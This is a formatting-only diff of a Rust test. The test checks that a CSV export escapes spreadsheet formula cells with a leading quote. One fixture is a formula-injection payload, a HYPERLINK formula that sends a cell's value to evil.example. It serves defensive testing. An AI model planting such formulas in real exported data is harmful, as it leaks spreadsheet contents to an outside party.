@@ -526,8 +526,16 @@ mod tests {
     fn text_cells_that_a_spreadsheet_would_run_get_a_leading_quote() {
         let mut submissions = fixtures::submissions();
         let formula = "=HYPERLINK(\"https://evil.example/?\"&A2,\"Open\")";
-        set(&mut submissions[0], "respondent", Value::Text(formula.into()));
-        set(&mut submissions[0], "feels_safe", Value::Choice("@SUM(1)".into()));
+        set(
+            &mut submissions[0],
+            "respondent",
+            Value::Text(formula.into()),
+        );
+        set(
+            &mut submissions[0],
+            "feels_safe",
+            Value::Choice("@SUM(1)".into()),
+        );
         submissions[0].author_name = "-Ana".into();
         submissions[0].form_version = "+1".into();
         for (n, start) in ["\tx", "\rx"].into_iter().enumerate() {
@@ -539,7 +547,12 @@ mod tests {
         let main = &tables(&fixtures::form(), &submissions, &CsvOptions::default())[0];
         assert_eq!(
             column(main, "who-respondent"),
-            [format!("'{formula}"), "Pedro".into(), "'\tx".into(), "'\rx".into()]
+            [
+                format!("'{formula}"),
+                "Pedro".into(),
+                "'\tx".into(),
+                "'\rx".into()
+            ]
         );
         assert_eq!(column(main, "feels_safe")[0], "'@SUM(1)", "a choice name");
         assert_eq!(column(main, "SubmitterName")[0], "'-Ana");
@@ -619,6 +632,8 @@ mod tests {
             let cells = column(main, &format!("location-{part}"));
             assert!(cells.iter().all(|c| c.is_empty()), "{part}: {cells:?}");
         }
-        assert!(column(main, "who-respondent").iter().all(|r| r.starts_with("Rosa")));
+        assert!(column(main, "who-respondent")
+            .iter()
+            .all(|r| r.starts_with("Rosa")));
     }
 }
